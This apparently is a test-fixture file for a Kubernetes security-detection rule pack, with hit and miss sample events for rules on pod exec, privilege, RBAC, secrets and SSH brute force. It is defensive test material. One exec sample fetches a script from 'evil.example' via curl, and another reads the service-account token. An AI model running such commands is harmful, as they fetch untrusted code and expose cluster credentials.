/** Positive and negative events for every built-in rule (used by pack.test.ts). */
import type { NormalizedEvent } from "@/lib/events/types";
import { audit, falco, nodeLine, podSpec } from "./test-events";

type Case = { hit: NormalizedEvent[]; miss: NormalizedEvent[]; then?: { hit: NormalizedEvent[]; miss: NormalizedEvent[] } };

const exec = (o: Parameters<typeof audit>[0] = {}) => audit({ verb: "create", subresource: "exec", code: 101, stage: "ResponseStarted", ...o });
const created = (spec: Record<string, unknown>, o: Parameters<typeof audit>[0] = {}, containers?: Record<string, unknown>[]) =>
  audit({ verb: "create", name: null, code: 201, requestObject: podSpec(spec, containers), ...o });
const role = (rules: unknown[], o: Parameters<typeof audit>[0] = {}) =>
  audit({ verb: "create", resource: "clusterroles", namespace: null, name: "reader", code: 201, apiGroup: "rbac.authorization.k8s.io", requestObject: { kind: "ClusterRole", rules }, ...o });
const binding = (roleName: string, o: Parameters<typeof audit>[0] = {}) =>
  audit({ verb: "create", resource: "clusterrolebindings", namespace: null, name: "b", code: 201, requestObject: { roleRef: { kind: "ClusterRole", name: roleName }, subjects: [{ kind: "User", name: "eve" }] }, ...o });
const cm = (data: Record<string, string>, o: Parameters<typeof audit>[0] = {}) =>
  audit({ verb: "create", resource: "configmaps", name: "cfg", code: 201, requestObject: { kind: "ConfigMap", data }, ...o });
const sshFail = (ip = "203.0.113.9") => nodeLine(`sshd[811]: Failed password for root from ${ip} port 51234 ssh2`, { actor: "root", ip });

export const CASES: Record<string, Case> = {
  "k8s.pod-exec-attach": {
    hit: [exec(), exec({ subresource: "attach" }), exec({ stage: "ResponseComplete" })],
    miss: [exec({ stage: "RequestReceived" }), audit({ verb: "get", subresource: "log" }), audit({ verb: "get" })],
  },
  "k8s.pod-exec-suspicious": {
    hit: [exec({ uri: "/api/v1/namespaces/payments/pods/p/exec?command=sh&command=-c&command=curl%20https%3A%2F%2Fevil.example%2Fx.sh&stdin=true" }),
      exec({ uri: "/api/v1/namespaces/payments/pods/p/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken" })],
    miss: [exec({ uri: "/api/v1/namespaces/payments/pods/p/exec?command=bash&stdin=true&tty=true" })],
  },
  "k8s.kubectl-cp": {
    hit: [exec({ uri: "/api/v1/namespaces/payments/pods/p/exec?command=tar&command=cf&command=-&command=%2Fdata&container=app" })],
    miss: [exec({ uri: "/api/v1/namespaces/payments/pods/p/exec?command=tarsnap" })],
  },
  "k8s.pod-portforward": { hit: [exec({ subresource: "portforward" })], miss: [exec()] },
  "k8s.ephemeral-container": {
    hit: [audit({ verb: "patch", subresource: "ephemeralcontainers" })],
    miss: [audit({ verb: "get", subresource: "ephemeralcontainers" })],
  },
  "k8s.pod-privileged": {
    hit: [created({}, {}, [{ name: "a", image: "nginx" }, { name: "b", image: "mysql", securityContext: { privileged: true } }]),
      created({ initContainers: [{ name: "i", image: "busybox", securityContext: { privileged: true } }] })],
    miss: [created({}, {}, [{ name: "a", image: "nginx", securityContext: { privileged: false } }]),
      created({}, {}, [{ name: "a", image: "docker.io/calico/node:v3.28", securityContext: { privileged: true } }])],
  },
  "k8s.pod-host-network": { hit: [created({ hostNetwork: true })], miss: [created({ hostNetwork: false }), created({ hostNetwork: true }, {}, [{ name: "a", image: "gke.gcr.io/kube-proxy:v1" }])] },
  "k8s.pod-host-pid": { hit: [created({ hostPID: true })], miss: [created({})] },
  "k8s.pod-host-ipc": { hit: [created({ hostIPC: true })], miss: [created({ hostPID: true })] },
  "k8s.pod-sensitive-hostpath": {
    hit: [created({ volumes: [{ name: "d", emptyDir: {} }, { name: "e", hostPath: { path: "/etc" } }] }), created({ volumes: [{ name: "s", hostPath: { path: "/var/run/docker.sock" } }] })],
    miss: [created({ volumes: [{ name: "l", hostPath: { path: "/var/log/app" } }] }), created({ volumes: [{ name: "e", hostPath: { path: "/etc" } }] }, {}, [{ name: "f", image: "falcosecurity/falco:0.39" }])],
  },
  "k8s.pod-hostpath": { hit: [created({ volumes: [{ name: "l", hostPath: { path: "/var/log/app" } }] })], miss: [created({ volumes: [{ name: "d", emptyDir: {} }] })] },
  "k8s.pod-dangerous-capabilities": {
    hit: [created({}, {}, [{ name: "a", image: "x", securityContext: { capabilities: { add: ["NET_BIND_SERVICE", "SYS_ADMIN"] } } }])],
    miss: [created({}, {}, [{ name: "a", image: "x", securityContext: { capabilities: { drop: ["ALL"], add: ["NET_BIND_SERVICE"] } } }])],
  },
  "k8s.pod-kube-namespace": {
    hit: [created({}, { namespace: "kube-system" }), created({}, { namespace: "kube-public" })],
    miss: [created({}, { namespace: "default" }), created({}, { namespace: "kube-system" }, [{ name: "m", image: "registry.k8s.io/metrics-server-amd64:v0.3" }])],
  },
  "k8s.controller-sa-assignment": {
    hit: [created({ serviceAccountName: "replicaset-controller" }, { namespace: "kube-system" })],
    miss: [created({ serviceAccountName: "replicaset-controller" }, { namespace: "kube-system", user: "system:serviceaccount:kube-system:daemon-set-controller" }), created({ serviceAccountName: "default" }, { namespace: "kube-system" })],
  },
  "k8s.rbac-cluster-admin-binding": { hit: [binding("cluster-admin")], miss: [binding("view"), binding("cluster-admin", { verb: "delete" })] },
  "k8s.rbac-role-wildcard": {
    hit: [role([{ apiGroups: [""], resources: ["*"], verbs: ["get"] }]), role([{ apiGroups: [""], resources: ["pods"], verbs: ["*"] }])],
    miss: [role([{ apiGroups: [""], resources: ["pods"], verbs: ["get", "list"] }])],
  },
  "k8s.rbac-role-pod-exec": { hit: [role([{ resources: ["pods/exec"], verbs: ["get"] }])], miss: [role([{ resources: ["pods/log"], verbs: ["get"] }])] },
  "k8s.rbac-role-write": { hit: [role([{ resources: ["pods"], verbs: ["get", "delete"] }])], miss: [role([{ resources: ["pods"], verbs: ["get", "watch"] }])] },
  "k8s.rbac-system-role-change": {
    hit: [audit({ verb: "patch", resource: "clusterroles", namespace: null, name: "system:node-problem-detector" }), audit({ verb: "delete", resource: "clusterroles", namespace: null, name: "system:kube-aggregator" })],
    miss: [audit({ verb: "patch", resource: "clusterroles", namespace: null, name: "system:coredns" }), audit({ verb: "get", resource: "clusterroles", namespace: null, name: "system:node" })],
  },
  "k8s.rbac-role-change": { hit: [role([]), audit({ verb: "delete", resource: "roles", name: "r" })], miss: [audit({ verb: "get", resource: "roles", name: "r" })] },
  "k8s.rbac-binding-change": { hit: [binding("view"), audit({ verb: "delete", resource: "rolebindings", name: "rb" })], miss: [audit({ verb: "list", resource: "rolebindings" })] },
  "k8s.rbac-sa-writes-rbac": {
    hit: [role([], { user: "system:serviceaccount:ci:deployer" })],
    miss: [role([], { user: "system:serviceaccount:kube-system:clusterrole-aggregation-controller" }), role([])],
  },
  "k8s.anonymous-allowed": {
    hit: [audit({ verb: "create", resource: "namespaces", namespace: null, name: "foo", user: "system:anonymous", code: 201 })],
    miss: [audit({ user: "system:anonymous", code: 403 }), audit({ verb: "get", resource: "", namespace: null, name: null, user: "system:anonymous", uri: "/healthz" }),
      audit({ verb: "get", resource: "", namespace: null, name: null, user: "system:anonymous", uri: "/version" })],
  },
  "k8s.denied-burst": { hit: [audit({ code: 403 }), audit({ code: 401 })], miss: [audit({ code: 404 })] },
  "k8s.anonymous-denied-burst": { hit: [audit({ user: "system:anonymous", code: 401 })], miss: [audit({ code: 401 })] },
  "k8s.impersonation": { hit: [audit({ impersonate: "system:admin" })], miss: [audit({}), audit({ impersonate: "bob", code: 403 })] },
  "k8s.disallowed-user": {
    hit: [audit({ user: "some-user" }), audit({ user: "aksService" })],
    miss: [audit({ user: "minikube-user" }), audit({ user: "system:serviceaccount:default:app" }), audit({ user: "eks:node-manager" })],
  },
  "k8s.rbac-enumeration": {
    hit: [audit({ verb: "create", resource: "selfsubjectrulesreviews", namespace: null, name: null, apiGroup: "authorization.k8s.io", code: 201 })],
    miss: [audit({ verb: "create", resource: "selfsubjectaccessreviews", namespace: null, name: null, code: 201 })],
  },
  "k8s.enumeration-tools": {
    hit: [audit({ userAgent: "trufflehog/3.63" }), exec({ uri: "/api/v1/namespaces/p/pods/x/exec?command=%2Fbin%2Fsh&stdin=true" })],
    miss: [audit({ userAgent: "kubectl/v1.30.0" }), exec({ uri: "/api/v1/namespaces/p/pods/x/exec?command=sh" })],
  },
  "k8s.node-proxy": {
    hit: [audit({ verb: "get", resource: "nodes", subresource: "proxy", namespace: null, name: "node-1" })],
    miss: [audit({ verb: "get", resource: "nodes", subresource: "proxy", namespace: null, name: "node-1", user: "system:serviceaccount:monitoring:prometheus" }), audit({ verb: "get", resource: "nodes", namespace: null, name: "node-1" })],
  },
  "k8s.secret-change": { hit: [audit({ verb: "create", resource: "secrets", code: 201 }), audit({ verb: "delete", resource: "secrets" })], miss: [audit({ verb: "get", resource: "secrets" })] },
  "k8s.secret-list": {
    hit: [audit({ verb: "list", resource: "secrets", name: null })],
    miss: [audit({ verb: "list", resource: "secrets", name: null, user: "system:kube-controller-manager" }), audit({ verb: "list", resource: "secrets", name: null, user: "system:node:node-1" })],
  },
  "k8s.secret-read-new": { hit: [audit({ verb: "get", resource: "secrets" })], miss: [audit({ verb: "get", resource: "secrets", code: 403 }), audit({ verb: "get", resource: "secrets", user: "system:node:node-1" })] },
  "k8s.secret-denied": { hit: [audit({ verb: "get", resource: "secrets", code: 403 })], miss: [audit({ verb: "get", resource: "secrets" })] },
  "k8s.secret-burst": { hit: [audit({ verb: "get", resource: "secrets" })], miss: [audit({ verb: "get", resource: "configmaps" })] },
  "k8s.secret-read-scripted": { hit: [audit({ verb: "get", resource: "secrets", userAgent: "curl/8.5.0" })], miss: [audit({ verb: "get", resource: "secrets" })] },
  "k8s.configmap-credentials": {
    hit: [cm({ "app.properties": "db.password=hunter2" }), cm({ "aws.ini": "aws_access_key_id = AKIA…" })],
    miss: [cm({ "ui.properties": "color=purple" })],
  },
  "k8s.configmap-change": { hit: [cm({}), audit({ verb: "delete", resource: "configmaps" })], miss: [audit({ verb: "update", resource: "configmaps" })] },
  "k8s.aws-auth-configmap": { hit: [audit({ verb: "patch", resource: "configmaps", namespace: "kube-system", name: "aws-auth" })], miss: [audit({ verb: "get", resource: "configmaps", namespace: "kube-system", name: "aws-auth" })] },
  "k8s.coredns-config": { hit: [audit({ verb: "update", resource: "configmaps", namespace: "kube-system", name: "coredns" })], miss: [audit({ verb: "update", resource: "configmaps", namespace: "default", name: "coredns" })] },
  "k8s.sa-token-created": {
    hit: [audit({ verb: "create", resource: "serviceaccounts", subresource: "token", name: "admin-sa" }),
      audit({ verb: "create", resource: "serviceaccounts", subresource: "token", name: "deployer", user: "system:serviceaccount:payments:payments-api" })],
    miss: [audit({ verb: "create", resource: "serviceaccounts", subresource: "token", name: "app", user: "system:node:node-1" }),
      audit({ verb: "create", resource: "serviceaccounts", subresource: "token", name: "app", user: "system:serviceaccount:kube-system:generic-garbage-collector" }),
      audit({ verb: "create", resource: "serviceaccounts", subresource: "token", name: "app", user: "system:kube-controller-manager" })],
  },
  "k8s.csr-created": {
    hit: [audit({ verb: "create", resource: "certificatesigningrequests", namespace: null, name: "eve" })],
    miss: [audit({ verb: "create", resource: "certificatesigningrequests", namespace: null, name: "node-csr-x", user: "system:node:node-1" })],
  },
  "k8s.admission-webhook-change": {
    hit: [audit({ verb: "create", resource: "mutatingwebhookconfigurations", namespace: null, name: "w" })],
    miss: [audit({ verb: "list", resource: "validatingwebhookconfigurations", namespace: null, name: null })],
  },
  "k8s.cronjob-change": {
    hit: [audit({ verb: "create", resource: "cronjobs", name: "backup" })],
    miss: [audit({ verb: "create", resource: "jobs", name: "backup-123", user: "system:serviceaccount:kube-system:cronjob-controller" }), audit({ verb: "patch", resource: "jobs", subresource: "status" })],
  },
  "k8s.events-deleted": { hit: [audit({ verb: "delete", resource: "events", name: "x.17" })], miss: [audit({ verb: "create", resource: "events", name: "x.17" })] },
  "k8s.nodeport-service": {
    hit: [audit({ verb: "create", resource: "services", name: "web", code: 201, requestObject: { spec: { type: "NodePort" } } })],
    miss: [audit({ verb: "create", resource: "services", name: "web", code: 201, requestObject: { spec: { type: "ClusterIP" } } })],
  },
  "k8s.service-change": { hit: [audit({ verb: "create", resource: "services", name: "web", code: 201 })], miss: [audit({ verb: "update", resource: "services", name: "web" })] },
  "k8s.deployment-change": { hit: [audit({ verb: "delete", resource: "deployments", name: "web" })], miss: [audit({ verb: "patch", resource: "deployments", name: "web" })] },
  "k8s.sidecar-injection": {
    hit: [audit({ verb: "patch", resource: "deployments", name: "web", apiGroup: "apps" })],
    miss: [audit({ verb: "update", resource: "deployments", name: "web", apiGroup: "apps" })],
  },
  "k8s.daemonset-created": { hit: [audit({ verb: "create", resource: "daemonsets", name: "ds" })], miss: [audit({ verb: "create", resource: "daemonsets", name: "ds", user: "system:serviceaccount:kube-system:x" })] },
  "k8s.namespace-change": {
    hit: [audit({ verb: "create", resource: "namespaces", namespace: null, name: "foo", code: 201 })],
    miss: [audit({ verb: "get", resource: "namespaces", namespace: null, name: "foo" })],
  },
  "k8s.sa-kube-namespace": {
    hit: [audit({ verb: "create", resource: "serviceaccounts", namespace: "kube-system", name: "myacct", code: 201 })],
    miss: [audit({ verb: "create", resource: "serviceaccounts", namespace: "kube-system", name: "coredns", code: 201 }), audit({ verb: "create", resource: "serviceaccounts", namespace: "default", name: "myacct", code: 201 })],
  },
  "k8s.sa-change": { hit: [audit({ verb: "create", resource: "serviceaccounts", name: "myacct", code: 201 })], miss: [audit({ verb: "get", resource: "serviceaccounts", name: "myacct" })] },
  "k8s.ingress-without-tls": {
    hit: [audit({ verb: "create", resource: "ingresses", name: "web", code: 201, requestObject: { spec: { rules: [] } } })],
    miss: [audit({ verb: "create", resource: "ingresses", name: "web", code: 201, requestObject: { spec: { tls: [{ hosts: ["a"] }] } } })],
  },
  "runtime.falco-alert": { hit: [falco(), falco({ priority: "Critical", rule: "Read sensitive file untrusted" })], miss: [audit({})] },
  "seq.exec-then-shell": {
    hit: [exec()], miss: [audit({ verb: "get" })],
    then: { hit: [falco({ rule: "Terminal shell in container" })], miss: [falco({ rule: "Read sensitive file untrusted" })] },
  },
  "seq.rbac-then-workload": {
    hit: [binding("view")], miss: [binding("view", { user: "system:kube-controller-manager" })],
    then: { hit: [audit({ verb: "create", resource: "deployments", name: "web" })], miss: [audit({ verb: "get", resource: "deployments", name: "web" })] },
  },
  "node.ssh-bruteforce": { hit: [sshFail(), nodeLine("sshd[9]: Invalid user admin from 203.0.113.9 port 4242")], miss: [nodeLine("sshd[9]: Accepted publickey for ec2-user from 10.0.0.1 port 22 ssh2")] },
  "node.ssh-login-after-failures": {
    hit: [sshFail()], miss: [nodeLine("kubelet[1]: Failed to pull image")],
    then: { hit: [nodeLine("sshd[9]: Accepted password for root from 203.0.113.9 port 4242 ssh2", { ip: "203.0.113.9" })], miss: [sshFail()] },
  },
  "node.sudo-failures": {
    hit: [nodeLine("sudo[77]: pam_unix(sudo:auth): authentication failure; logname=bob uid=1000"), nodeLine("sudo[77]: bob : 3 incorrect password attempts ; TTY=pts/0 ; COMMAND=/bin/bash", { actor: "bob" })],
    miss: [nodeLine("sudo[77]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/ls", { actor: "bob" })],
  },
  "node.sudo-not-in-sudoers": { hit: [nodeLine("sudo[77]: mallory : user NOT in sudoers ; TTY=pts/0 ; COMMAND=/bin/sh", { actor: "mallory" })], miss: [nodeLine("sudo[77]: bob : TTY=pts/0 ; COMMAND=/bin/ls")] },
  "coverage.layer-silent": { hit: [], miss: [] },
};
